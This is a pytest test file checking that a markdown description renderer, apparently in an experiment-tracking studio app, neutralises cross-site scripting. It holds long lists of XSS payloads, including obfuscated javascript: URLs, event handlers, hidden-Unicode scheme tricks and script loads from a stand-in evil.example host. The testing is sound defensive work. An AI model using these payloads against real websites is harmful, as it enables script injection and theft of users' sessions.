"""Descriptions render markdown and never let an executable vector through.

The corpus follows the OWASP XSS filter-evasion cheat sheet: script tags in
many casings and encodings, event handlers, javascript:/data:/vbscript: URLs
hidden with entities and whitespace, style expressions, frames, meta refresh,
markdown link and autolink injections, comment tricks and quote nesting.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from runs.markdown import ALLOWED_ATTRIBUTES, ALLOWED_TAGS, render_description

XSS_PAYLOADS = [
    # script tags, casings, encodings, broken markup
    "<script>alert(1)</script>",
    "<SCRIPT>alert(1)</SCRIPT>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    "<SCRIPT SRC=http://evil.example/xss.js?< B >",
    "<<SCRIPT>alert('XSS');//\\<</SCRIPT>",
    "<script/XSS src='http://evil.example/xss.js'></script>",
    "<script\x20type='text/javascript'>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    # event handlers
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    '<img src="x" onerror="alert(1)">',
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;(1)>",
    "<img/src=x/onerror=alert(1)>",
    '<img src="x`` onerror=alert(1)>',
    '<IMG """><SCRIPT>alert(\'XSS\')</SCRIPT>">',
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<body onload=alert(1)>",
    "<div onmouseover='alert(1)'>hover</div>",
    "<details open ontoggle=alert(1)>",
    "<a href='https://example.com' onclick='alert(1)'>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    # javascript: URLs
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '<a href="jav&#x0D;ascript:alert(1)">x</a>',
    '<a href="jav\tascript:alert(1)">x</a>',
    '<a href=" &#14;  javascript:alert(1)">x</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
    '<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;alert(1)">x</a>',
    '<a href="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114'
    '&#0000105&#0000112&#0000116&#0000058alert(1)">x</a>',
    "<IMG SRC=javascript:alert('XSS')>",
    "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
    '<img src="jav&#x0A;ascript:alert(1)">',
    # data: and vbscript: URLs
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="DATA:text/html,<script>alert(1)</script>">x</a>',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="VBScript:msgbox(1)">x</a>',
    # style, expressions, frames, objects, forms, meta
    "<div style=\"background:url('javascript:alert(1)')\">x</div>",
    '<div style="width: expression(alert(1));">x</div>',
    "<style>@import 'http://evil.example/xss.css';</style>",
    "<STYLE>li {list-style-image: url(\"javascript:alert('XSS')\");}</STYLE><UL><LI>XSS</LI></UL>",
    "<link rel=stylesheet href=http://evil.example/xss.css>",
    "<iframe src='javascript:alert(1)'></iframe>",
    '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src='javascript:alert(1)'></frameset>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<form action='javascript:alert(1)'><button>go</button></form>",
    "<button formaction='javascript:alert(1)'>go</button>",
    "<META HTTP-EQUIV='refresh' CONTENT='0;url=javascript:alert(1);'>",
    '<META HTTP-EQUIV="refresh" '
    'CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgnWFNTJyk8L3NjcmlwdD4K">',
    "<base href='javascript:alert(1)//'>",
    "<table background='javascript:alert(1)'><tr><td>x</td></tr></table>",
    "<isindex action=javascript:alert(1) type=image>",
    # markdown link and image injections
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x]( javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    '[x](https://example.com "title" onclick="alert(1)")',
    '[x](https://example.com"onmouseover="alert(1))',
    "![x](javascript:alert(1))",
    '![x](x" onerror="alert(1))',
    "[x][ref]\n\n[ref]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "<data:text/html,<script>alert(1)</script>>",
    '[x](run:evil"onmouseover="alert(1))',
    # comments, CDATA, nested quotes, unicode escapes
    "<!--<script>alert(1)</script>-->",
    "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<a href='https://ok.example/'\"'\"onclick=alert(1)>x</a>",
    "<a title='\"><script>alert(1)</script>'>x</a>",
    '<img alt="\'" src=x onerror=alert(1)//">',
    '<a href="\\u006aavascript:alert(1)">x</a>',
    "<a href='\u0001javascript:alert(1)'>x</a>",
    "<code class='toast' onclick='alert(1)'>x</code>",
    "```\n</code></pre><script>alert(1)</script>\n```",
    "`<img src=x onerror=alert(1)>`",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
]

FORBIDDEN_TAGS = {
    "script", "iframe", "frame", "frameset", "object", "embed", "style", "meta", "link",
    "form", "input", "button", "base", "svg", "math", "video", "audio", "source", "body",
    "isindex", "textarea", "select",
}  # fmt: skip
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "poster"}
SAFE_SCHEMES = {"http", "https", "mailto"}
# The WHATWG URL parser trims leading and trailing C0 controls and spaces and
# drops tabs and newlines anywhere: "jav\tascript:" is "javascript:" to a browser.
_TRIMMED = re.compile(r"^[\x00-\x20]+|[\x00-\x20]+$")
_DROPPED = re.compile(r"[\t\n\r]+")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, list[tuple[str, str | None]]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, attrs))

    handle_startendtag = handle_starttag


def _scheme(url: str) -> str | None:
    """The scheme a browser would see, or None for a relative URL."""
    compact = _DROPPED.sub("", _TRIMMED.sub("", url)).lower()
    m = re.match(r"^([a-z][a-z0-9+.\-]*):", compact)
    return m.group(1) if m else None


def assert_inert(html: str) -> None:
    """No executable tag, no event handler or style, only safe URL schemes."""
    parser = _Collector()
    parser.feed(html)
    parser.close()
    for tag, attrs in parser.elements:
        assert tag not in FORBIDDEN_TAGS, html
        assert tag in ALLOWED_TAGS, html
        for name, value in attrs:
            assert not name.startswith("on"), html
            assert name != "style", html
            assert name in ALLOWED_ATTRIBUTES.get(tag, set()) | {"rel"}, html
            if name in URL_ATTRIBUTES and value is not None:
                scheme = _scheme(value)
                assert scheme is None or scheme in SAFE_SCHEMES, html
            if name == "class":
                assert all(c.startswith("language-") for c in (value or "").split()), html


def test_the_corpus_is_large_enough():
    assert len(XSS_PAYLOADS) >= 60
    assert len(set(XSS_PAYLOADS)) == len(XSS_PAYLOADS)


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_renders_inert(payload):
    assert_inert(render_description(payload))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_renders_inert_with_workspace_links(payload):
    assert_inert(render_description(payload, workspace_slug="team"))


@pytest.mark.parametrize("payload", XSS_PAYLOADS)
def test_payload_inside_surrounding_markdown_renders_inert(payload):
    source = f"# Notes\n\nSome *text* and [a link](https://example.com).\n\n{payload}\n\n- item"
    assert_inert(render_description(source, workspace_slug="team"))


def test_links_get_rel_noopener_noreferrer():
    html = render_description("[docs](https://example.com/docs)")
    assert '<a href="https://example.com/docs" rel="noopener noreferrer">docs</a>' in html


def test_tables_render():
    html = render_description("| metric | value |\n|---|---:|\n| acc | 0.93 |")
    assert "<table>" in html
    assert "<th>metric</th>" in html
    assert '<td align="right">0.93</td>' in html


def test_fenced_code_keeps_its_language_class_and_escapes_html():
    html = render_description("```python\nprint('<b>')\n```")
    assert '<code class="language-python">' in html
    assert "&lt;b&gt;" in html


def test_remote_images_render_when_the_setting_allows_them(settings):
    settings.STUDIO_REMOTE_IMAGES = True
    html = render_description("![loss curve](https://example.com/loss.png)")
    assert '<img alt="loss curve" src="https://example.com/loss.png">' in html


@pytest.mark.parametrize(
    "src",
    [
        "https://tracker.example/pixel.gif",
        "http://tracker.example/pixel.gif",
        "//tracker.example/pixel.gif",
        "/\\tracker.example/pixel.gif",
        "https://studio.example.com.tracker.example/x.png",
        "http://studio.example.com/x.png",  # another scheme is another origin
        "mailto:a@example.com",
    ],
)
def test_remote_images_are_dropped_by_default(settings, src):
    settings.STUDIO_BASE_URL = "https://studio.example.com"
    html = render_description(f'![curve]({src}) <img src="{src}" alt="raw">')
    assert "src=" not in html, html
    assert 'alt="curve"' in html


@pytest.mark.parametrize(
    "src",
    [
        "/w/team/runs/a_1_00000000/files/outputs/curve.png",
        "/static/demo/learning-curves.svg",
        "outputs/curve.png",
        "https://studio.example.com/w/team/runs/a_1_00000000/files/curve.png",
        "HTTPS://Studio.Example.com/static/x.svg",
    ],
)
def test_the_studios_own_images_render_by_default(settings, src):
    settings.STUDIO_BASE_URL = "https://studio.example.com"
    assert f'src="{src}"' in render_description(f"![curve]({src})")


# Schemes spelt with characters a browser skips or a reader cannot see: read without
# them, each is javascript: (or another scheme outside http, https, mailto).
HIDDEN_SCHEMES = [
    '<a href="javas\tcript:alert(1)">x</a>',
    "[x](<java\tscript:alert(1)>)",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript\u200b:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "[x](java\u00adscript:alert(1))",
    "[x](java\u200cscript:alert(1))",
    "[x](java\u200dscript:alert(1))",
    "[x](java\u2060script:alert(1))",
    "[x](java\u200escript:alert(1))",
    "[x](java\u202escript:alert(1))",
    "[x](java\u2066script:alert(1))",
    "[x](java\u034fscript:alert(1))",
    "[x](java\u3164script:alert(1))",
    "[x](java\ufe0fscript:alert(1))",
    "[x](java\U000e0041script:alert(1))",
    "[x](java\u00a0script:alert(1))",
    "[x](java\u2028script:alert(1))",
    "[x](java\x7fscript:alert(1))",
    "[x](java\x85script:alert(1))",
    '<a href="java&#x200b;script:alert(1)">x</a>',
    '<a href="java&#173;script:alert(1)">x</a>',
    '<a href="&#xfeff;javascript:alert(1)">x</a>',
    '<a href="vb&#x200b;script:msgbox(1)">x</a>',
    "[x](da\u200bta:text/html,<script>alert(1)</script>)",
    '<img src="java\u200bscript:alert(1)">',
    "[x](JAVA\u200bSCRIPT:alert(1))",
    "[x](unknown:thing)",
    "[x](//evil.example/phish)",
    '<a href="/&#92;evil.example/phish">x</a>',
    "[x](/\\\\evil.example/phish)",
    '<a href="&#92;&#92;evil.example/phish">x</a>',
]


@pytest.mark.parametrize("payload", HIDDEN_SCHEMES)
def test_hidden_schemes_are_dropped(payload):
    source = payload.encode().decode("unicode_escape")
    html = render_description(source, workspace_slug="team")
    assert "href=" not in html, html
    assert "src=" not in html, html


@pytest.mark.parametrize(
    "url",
    [
        "https://example.com/a:b",
        "http://example.com/?q=a:b#c:d",
        "mailto:team@example.com",
        "/w/team/runs/a_1_00000000/",
        "#section",
        "?page=2",
        "notes/results.md",
    ],
)
def test_links_with_allowed_schemes_or_none_stay(url):
    url = url.encode().decode("unicode_escape")
    assert f'href="{url}"' in render_description(f"[x]({url})")


def test_relative_links_to_runs_and_views_stay():
    html = render_description(
        "[other](/w/team/runs/mnist_1700000000_abcd1234/) [v](/w/team/views/3/)"
    )
    assert 'href="/w/team/runs/mnist_1700000000_abcd1234/"' in html
    assert 'href="/w/team/views/3/"' in html


def test_run_and_view_shorthand_links_resolve_in_the_workspace():
    html = render_description(
        "[baseline](run:mnist_1700000000_abcd1234) and [best](view:12#charts)",
        workspace_slug="team",
    )
    assert 'href="/w/team/runs/mnist_1700000000_abcd1234/"' in html
    assert 'href="/w/team/views/12/#charts"' in html


def test_shorthand_links_without_a_workspace_lose_their_target():
    html = render_description("[baseline](run:mnist_1700000000_abcd1234)")
    assert "href" not in html
    assert "baseline" in html


def test_shorthand_for_images_resolves_too():
    html = render_description("![chart](run:a_1_00000000)", workspace_slug="team")
    assert 'src="/w/team/runs/a_1_00000000/"' in html


def test_mailto_links_survive():
    html = render_description("[mail](mailto:team@example.com)")
    assert 'href="mailto:team@example.com"' in html


def test_blank_source_renders_nothing():
    assert render_description("  \n ") == ""


def test_the_description_cache_uses_the_workspace(db):
    from runs import services
    from tests.factories import RunFactory, WorkspaceFactory

    run = RunFactory(experiment__workspace=WorkspaceFactory(slug="vision"))
    services.run_update(run=run, description="See [base](run:vision_1_00000001).")
    run.refresh_from_db()
    assert 'href="/w/vision/runs/vision_1_00000001/"' in run.description_html


# --- nested lists: two spaces (as people write them) or four (as Python-Markdown wants) --


def _nesting(html: str) -> list[str]:
    """The list items' text with their depth, in order: ['0 one', '1 two', ...]."""
    import re

    out, depth = [], -1
    for token in re.findall(r"<(/?)(ul|ol)>|<li>([^<\n]*)", html):
        closing, tag, text = token
        if tag:
            depth += -1 if closing else 1
        elif text.strip():
            out.append(f"{depth} {text.strip()}")
    return out


@pytest.mark.parametrize("indent", ["  ", "   ", "    ", "\t"])
def test_nested_lists_nest_with_two_or_four_spaces(indent):
    source = f"- one\n{indent}- two\n{indent}{indent}- three\n- four\n"
    assert _nesting(render_description(source)) == ["0 one", "1 two", "2 three", "0 four"]


def test_numbered_lists_nest_under_their_items():
    source = "1. first\n   1. inner\n   2. inner too\n2. second\n  - bullet under it\n"
    assert _nesting(render_description(source)) == [
        "0 first",
        "1 inner",
        "1 inner too",
        "0 second",
        "1 bullet under it",
    ]


def test_code_is_not_taken_for_a_list():
    fenced = render_description("```\n- a\n  - b\n```\n")
    assert "- a\n  - b" in fenced
    indented = render_description("Some text.\n\n    - not a list\n")
    assert "<pre><code>- not a list" in indented
